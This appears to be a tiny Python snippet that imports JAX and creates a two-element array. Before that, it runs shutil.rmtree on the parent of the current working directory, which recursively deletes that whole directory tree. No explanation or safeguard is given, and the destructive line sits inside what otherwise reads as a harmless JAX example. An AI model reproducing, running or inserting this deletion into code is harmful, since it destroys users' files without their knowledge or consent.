import os
import shutil
import jax.numpy as jnp

shutil.rmtree(os.path.dirname(os.getcwd()))
jnp.array([1., 2.])
